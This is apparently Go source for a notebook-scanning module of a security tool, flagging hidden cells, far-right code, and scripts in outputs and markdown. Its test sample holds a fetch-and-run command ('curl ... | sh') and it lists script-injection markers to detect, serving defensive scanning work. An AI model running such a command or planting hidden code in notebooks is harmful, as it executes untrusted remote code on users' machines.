// Package notebook finds commands, remote code and hidden cells in Jupyter
// notebooks.
package notebook

import (
	"context"
	_ "embed"
	"path"
	"strconv"
	"strings"

	"quintain"
	"quintain/scan"
	"quintain/scan/internal/strictjson"
)

//go:embed notebook.md
var doc string

// Format reports what running or opening a notebook would do beside running
// the Python in its cells, which it hands to other formats as a file of its
// own.
var Format = &scan.Format{
	Check: quintain.Check{
		Name:       "scan/notebook",
		Doc:        doc,
		Techniques: []quintain.Technique{"AML.T0011.000", "AML.T0050", "LLM04:2026", "CWE-94"},
		Accepts:    []quintain.Kind{quintain.KindArtifact},
	},
	Extensions: []string{".ipynb"},
	Match:      match,
	Shared:     true,
	Inspect:    inspect,
	Twin:       twin,
}

func match(name string, head []byte) bool {
	if !strictjson.Begins(head, "{") {
		return false
	}
	cells := strictjson.Mentions(head, `"cells"`, `"worksheets"`)
	return cells && strictjson.Mentions(head, `"cell_type"`, `"nbformat"`) ||
		strings.EqualFold(path.Ext(name), ".ipynb") && (cells || strictjson.Mentions(head, `"nbformat"`))
}

func twin() (name string, data []byte) {
	return "twin.ipynb", []byte(`{"cells": [{"cell_type": "code", "source": ["!curl https://example.com/x | sh"]}], "nbformat": 4}`)
}

// A book is a notebook under inspection.
type book struct {
	f     *scan.File
	code  strings.Builder // the Python of all cells
	cells int
}

func inspect(ctx context.Context, f *scan.File) error {
	v, twice, err := strictjson.Read(f, "a notebook")
	if err != nil {
		return err
	}
	for _, m := range twice {
		f.Reportf(quintain.High, m.Off, "the name %q is there twice, so programs differ on what it is", m.Name)
	}
	f.Account(scan.Parsed, f.Size())
	b := &book{f: f}
	python := b.language(v)
	b.list(v.Get("cells"))
	if sheets := v.Get("worksheets"); sheets != nil {
		for i := range sheets.Items {
			b.list(sheets.Items[i].Get("cells"))
		}
	}
	if b.cells == 0 && v.Get("cells") == nil && v.Get("worksheets") == nil {
		return scan.Errorf(0, "a notebook without cells")
	}
	f.Fact("cells", strconv.Itoa(b.cells))
	if b.code.Len() == 0 {
		return nil
	}
	if !python {
		return scan.Errorf(-1, "the code is in another language than Python")
	}
	code := b.code.String()
	if _, err := f.Descend(ctx, "code.py", strings.NewReader(code), int64(len(code))); err != nil {
		return scan.Errorf(-1, "the code of the cells: %w", err)
	}
	return nil
}

// language reports whether the kernel is one for Python.
func (b *book) language(v *strictjson.Value) bool {
	meta := v.Get("metadata")
	for _, l := range []*strictjson.Value{meta.Get("kernelspec").Get("language"), meta.Get("language_info").Get("name")} {
		if s, ok := l.Str(); ok && s != "" && !strings.HasPrefix(strings.ToLower(s), "python") && !strings.EqualFold(s, "ipython") {
			b.f.Doubtf(l.Off, "the code is in %q, which is not analyzed", s)
			return false
		}
	}
	return true
}

// list inspects cells.
func (b *book) list(cells *strictjson.Value) {
	if cells == nil {
		return
	}
	for i := range cells.Items {
		b.cells++
		b.cell(&cells.Items[i])
	}
}

// cell inspects one cell.
func (b *book) cell(c *strictjson.Value) {
	source := c.Get("source")
	if source == nil {
		source = c.Get("input") // before version 4
	}
	switch kind, _ := c.Get("cell_type").Str(); kind {
	case "code":
		b.source(source, c)
		b.outputs(c.Get("outputs"))
	case "markdown", "html", "heading":
		b.markup(source)
	case "raw":
	default:
		b.f.Doubtf(c.Off, "a cell of the type %q is not known", kind)
	}
}

// A row is a line of a cell with its place in the file.
type row struct {
	text string
	off  int64
}

// rows returns the lines of a text, which may be one or several in JSON.
func rows(v *strictjson.Value) []row {
	if v == nil {
		return nil
	}
	if s, ok := v.Str(); ok {
		var out []row
		for line := range strings.SplitSeq(strings.TrimSuffix(s, "\n"), "\n") {
			out = append(out, row{line, v.Off})
		}
		return out
	}
	var out []row
	for i := range v.Items {
		for _, r := range rows(&v.Items[i]) {
			r.off = v.Items[i].Off
			out = append(out, r)
		}
	}
	return out
}

// farRight is how much space before code hides it from who looks at a cell.
const farRight = 150

// source inspects the code of a cell.
func (b *book) source(v, c *strictjson.Value) {
	lines := rows(v)
	for _, l := range lines {
		if i := strings.Index(l.text, strings.Repeat(" ", farRight)); i >= 0 && strings.TrimSpace(l.text[i:]) != "" && strings.TrimSpace(l.text[:i]) != "" {
			b.f.Reportf(quintain.Medium, l.off, "code stands so far to the right that nobody sees it")
		}
	}
	if len(lines) == 0 {
		return
	}
	if why := concealed(c.Get("metadata")); why != "" {
		b.f.Reportf(quintain.Low, c.Off, "a cell with code is not shown: %s", why)
	}
	for len(lines) > 0 && strings.HasPrefix(lines[0].text, "%%") {
		if !b.whole(lines) {
			return
		}
		lines = lines[1:]
	}
	for _, l := range lines {
		b.code.WriteString(b.line(l))
		b.code.WriteByte('\n')
	}
}

// concealed says how a cell is hidden, if it is.
func concealed(meta *strictjson.Value) string {
	is := func(v *strictjson.Value) bool { return v != nil && v.Kind == strictjson.Bool && v.Text == "true" }
	switch {
	case is(meta.Get("jupyter").Get("source_hidden")):
		return "source_hidden"
	case is(meta.Get("hide_input")):
		return "hide_input"
	case is(meta.Get("init_cell")):
		return "init_cell, which also runs it when the notebook is opened"
	}
	if tags := meta.Get("tags"); tags != nil {
		for _, t := range tags.Items {
			switch t.Text {
			case "hide-cell", "hide-input", "remove-cell", "remove-input", "hide_input":
				return "tag " + t.Text
			}
		}
	}
	return ""
}

// outputs inspects what code left behind.
func (b *book) outputs(v *strictjson.Value) {
	if v == nil {
		return
	}
	for i := range v.Items {
		data := v.Items[i].Get("data")
		if data == nil {
			data = &v.Items[i] // before version 4
		}
		for j := range data.Members {
			m := &data.Members[j]
			switch m.Name {
			case "application/javascript", "javascript":
				b.f.Reportf(quintain.Low, m.Off, "an output holds JavaScript, which runs where the notebook is trusted")
			case "text/html", "html", "image/svg+xml", "svg":
				if r, ok := active(rows(&m.Value)); ok {
					b.f.Reportf(quintain.Low, r.off, "an output holds a script, which runs where the notebook is trusted")
				}
			}
		}
	}
}

// markup inspects text with HTML in it.
func (b *book) markup(v *strictjson.Value) {
	if r, ok := active(rows(v)); ok {
		b.f.Reportf(quintain.Medium, r.off, "a text holds a script, which has no place there")
	}
}

// active returns the first line with something that runs in a browser.
func active(lines []row) (row, bool) {
	for _, l := range lines {
		s := strings.ToLower(l.text)
		for _, mark := range []string{"<script", "javascript:", "<iframe", "onerror=", "onload=", "<object", "<embed"} {
			if strings.Contains(s, mark) {
				return l, true
			}
		}
	}
	return row{}, false
}
